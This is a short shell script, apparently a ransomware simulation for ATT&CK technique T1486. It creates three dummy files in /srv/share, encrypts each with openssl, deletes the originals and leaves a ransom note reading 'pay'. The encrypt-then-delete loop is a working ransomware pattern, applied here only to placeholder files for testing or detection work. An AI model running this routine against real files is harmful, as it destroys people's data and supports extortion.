# technique: T1486
# title: files encrypted
mkdir -p /srv/share
for i in 1 2 3; do echo data$i > /srv/share/file$i.doc; done
for file in /srv/share/*.doc; do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in "$file" -out "$file.locked" && rm "$file"
done
echo 'pay' > /srv/share/README_TO_DECRYPT.txt
